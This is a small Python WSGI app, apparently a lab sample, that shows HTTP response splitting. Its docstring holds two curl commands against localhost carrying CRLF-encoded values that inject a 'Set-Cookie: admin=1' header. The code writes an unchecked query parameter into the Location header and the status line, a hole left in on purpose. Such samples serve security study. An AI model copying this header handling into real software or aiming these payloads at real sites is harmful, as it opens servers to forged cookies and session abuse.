"""CR LF in what becomes the head of the answer: the client takes the rest for more fields.

    curl -i 'http://127.0.0.1:8000/?to=/x%0d%0aSet-Cookie:%20admin=1'
    curl -i 'http://127.0.0.1:8000/status?to=Found%0d%0aSet-Cookie:%20admin=1'

A redirect to an address from the query is the usual way into it.
"""

from urllib.parse import parse_qs


def app(environ, start_response):
    to = parse_qs(environ["QUERY_STRING"]).get("to", ["/x\r\nSet-Cookie: admin=1"])[0]
    if environ["PATH_INFO"] == "/status":
        start_response("302 " + to, [("Location", "/")])
    else:
        start_response("302 Found", [("Location", to)])
    return [b""]
